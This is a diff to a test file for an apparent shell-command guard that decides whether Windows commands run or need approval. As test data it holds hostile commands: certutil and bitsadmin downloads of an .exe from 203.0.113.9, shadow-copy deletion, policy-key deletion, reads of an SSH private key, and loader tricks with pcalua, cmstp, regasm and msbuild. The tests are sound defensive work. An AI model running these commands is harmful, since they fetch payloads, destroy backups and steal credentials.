@@ -35,7 +35,8 @@ WINDOWS = st.sampled_from([
     ("reg", "delete HKLM\\SOFTWARE\\Policies /f", "query HKCU\\Software"),
     ("vssadmin", "delete shadows /all /quiet", "list shadows"),
     ("net", "stop wuauserv", "start"),
-    ("bitsadmin", "/transfer j /download http://203.0.113.9/a.exe a.exe", "/list")])
+    ("bitsadmin", "/transfer j /download http://203.0.113.9/a.exe a.exe", "/list"),
+    ("certutil", "-urlcache -split -f http://203.0.113.9/a.exe a.exe", "-hashfile a.exe")])
 
 
 @settings(max_examples=60, deadline=None)
@@ -146,7 +147,37 @@ def test_a_signal_emitted_runs(signal, name):
     assert decide(signal.format(m=name)) == "allow", signal.format(m=name)
 
 
-@pytest.mark.parametrize("broken", ["exe", "windows-reads"])
+# Windows' own programs that load what they are given (the eighteenth sitting's held-out
+# `classes-fresh98.txt`: `pcalua -a`, `installutil`, `regasm`, `cmstp`, `odbcconf`, and
+# msbuild given a project file on the drive, were allowed): a program this wing does not
+# know, handed a Windows program file from the drive, is asked about; from the workspace it
+# runs. Any spelling of the drive's path: bash's leavings of it unquoted, quoted, with
+# slashes, an option's value, a brace's word.
+LOADERS = st.sampled_from(["pcalua.exe -a {f}", "installutil /logfile= /U {f}", "regasm {f}",
+                           "cmstp.exe /ni /s {f}", "odbcconf /a {{REGSVR {f}}}",
+                           "frobtool --load={f}", "regsvcs {f}"])
+CODE_FILES = st.sampled_from(["p.exe", "p.dll", "p.inf", "p.sct", "p.hta", "p.msi", "p.cpl",
+                              "p.vbs", "p.ps1", "p.bat"])
+DRIVE = st.sampled_from(["C:\\Users\\Public\\{n}", "'C:\\Users\\Public\\{n}'",
+                         "C:/ProgramData/{n}", "'D:\\share\\{n}'", "c:/Windows/Temp/{n}"])
+
+
+@settings(max_examples=80, deadline=None)
+@given(LOADERS, CODE_FILES, DRIVE)
+def test_a_windows_program_from_the_drive_handed_to_a_loader_is_asked_about(loader, name,
+                                                                            drive):
+    assert decide(loader.format(f=drive.format(n=name))) == "ask", (loader, drive, name)
+    assert decide(loader.format(f=f"build/{name}")) == "allow", (loader, name)
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.sampled_from(["C:\\x\\proj.csproj", "'D:\\src\\app.proj'", "C:/tmp/p.xml"]))
+def test_a_build_of_a_project_on_the_drive_is_asked_about(project):
+    assert decide(f"msbuild.exe {project}") == "ask", project
+    assert decide("msbuild project.sln /t:Build") == "allow"
+
+
+@pytest.mark.parametrize("broken", ["exe", "windows-reads", "loaders", "drive"])
 def test_the_laws_catch_a_broken_reading(monkeypatch, broken):
     from toolpipe.shell import _carried, _model
 
@@ -157,6 +188,13 @@ def test_the_laws_catch_a_broken_reading(monkeypatch, broken):
                 lambda self: self.argv[0].text.rpartition("/")[2].lower()
                 if self.argv and self.argv[0].known else ""))
             assert decide("wmic.exe shadowcopy delete", UnixShield()) == "allow"
+        elif broken == "loaders":  # no Windows program file handed to an unknown one
+            monkeypatch.setattr(_carried, "windows_code", lambda args, cwd: None)
+            assert decide("pcalua.exe -a C:\\Users\\Public\\p.exe", UnixShield()) == "allow"
+        elif broken == "drive":  # a drive's path read as the workspace's
+            from toolpipe.shell import _places
+            monkeypatch.setattr(_places, "_DRIVE_PATH", __import__("re").compile(r"(?!)"))
+            assert decide("msbuild.exe C:\\x\\proj.csproj", UnixShield()) == "allow"
         else:  # PowerShell's reads not spelled in the shell's words
             monkeypatch.setattr(_carried, "as_shell", lambda name, code: "true")
             assert decide("pwsh -c 'Get-Content C:\\Users\\me\\.ssh\\id_ed25519'",
